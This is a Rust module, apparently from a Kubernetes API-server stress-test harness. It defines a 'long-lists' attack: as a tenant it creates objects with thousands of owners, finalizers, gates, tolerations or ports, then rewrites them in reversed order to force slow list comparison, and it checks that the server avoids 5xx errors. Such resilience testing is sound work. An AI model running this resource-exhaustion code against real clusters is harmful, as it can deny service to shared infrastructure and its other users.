//! Objects with tens of thousands of owners, finalizers, gates, tolerations and ports, which are written again in another order: who
//! compares each item with each other one is busy for minutes.

use anyhow::Result;
use kube::Client;
use serde_json::{Value, json};

use crate::stage::ask::{ask, delete, post};
use crate::stage::{CONFIG_MAPS, Limits, Stage, holds};
use crate::{Attack, Budget};

const PODS: &str = "/api/v1/namespaces/tenant/pods";
const SERVICES: &str = "/api/v1/namespaces/tenant/services";

/// The attack.
pub static ATTACK: Attack = Attack {
    name: "long-lists",
    about: "objects with long lists that are written again in another order",
    budget: Budget::USUAL.with_memory(512),
    limits: Limits::NONE,
    play: |stage| Box::pin(play(stage)),
};

async fn play(stage: &Stage) -> Result<()> {
    let tenant = stage.people().tenant;
    let count = stage.pick(2_000, 20_000);
    again(&tenant, CONFIG_MAPS, owned(count), "/metadata/ownerReferences").await?;
    let finalized = (0..count).map(|n| json!(format!("example.org/a{n}"))).collect();
    let map = json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "final", "finalizers": Value::Array(finalized)}});
    post(&tenant, CONFIG_MAPS, &map).await?.expect(201)?;
    delete(&tenant, &format!("{CONFIG_MAPS}/final")).await?.expect(200)?;
    rewrite(&tenant, CONFIG_MAPS, map, "/metadata/finalizers").await?;
    again(&tenant, PODS, gated(count), "/spec/schedulingGates").await?;
    again(&tenant, PODS, tolerant(count), "/spec/tolerations").await?;
    again(&tenant, SERVICES, opened(stage.pick(500, 10_000)), "/spec/ports").await
}

fn owned(count: usize) -> Value {
    let owner = |n| json!({"apiVersion": "v1", "kind": "ConfigMap", "name": format!("a{n}"), "uid": format!("a{n}")});
    let owners: Vec<Value> = (0..count).map(owner).collect();
    json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "owned", "ownerReferences": owners}})
}

fn gated(count: usize) -> Value {
    let gates: Vec<Value> = (0..count).map(|n| json!({"name": format!("example.org/a{n}")})).collect();
    json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "gated"}, "spec": {
        "containers": [{"name": "c", "image": "x"}], "schedulingGates": gates}})
}

fn tolerant(count: usize) -> Value {
    let all: Vec<Value> =
        (0..count).map(|n| json!({"key": format!("example.org/a{n}"), "operator": "Exists"})).collect();
    json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "tolerant"}, "spec": {
        "containers": [{"name": "c", "image": "x"}], "tolerations": all}})
}

fn opened(count: usize) -> Value {
    let ports: Vec<Value> = (1..=count).map(|n| json!({"name": format!("a{n}"), "port": n})).collect();
    json!({"apiVersion": "v1", "kind": "Service", "metadata": {"name": "opened"}, "spec": {"ports": ports}})
}

/// Makes an object, and writes it again.
async fn again(tenant: &Client, path: &str, object: Value, list: &str) -> Result<()> {
    post(tenant, path, &object).await?.expect(201)?;
    rewrite(tenant, path, object, list).await
}

/// Writes an object again with a list the other way round, of which one item is gone.
async fn rewrite(tenant: &Client, path: &str, mut object: Value, list: &str) -> Result<()> {
    let name = object["metadata"]["name"].as_str().unwrap_or_default().to_owned();
    if let Some(Value::Array(items)) = object.pointer_mut(list) {
        items.reverse();
        items.pop();
    }
    let body = serde_json::to_vec(&object)?;
    let answer = ask(tenant, "PUT", &format!("{path}/{name}"), "application/json", body).await?;
    holds(answer.code < 500, (name, answer.code, answer.message()))
}
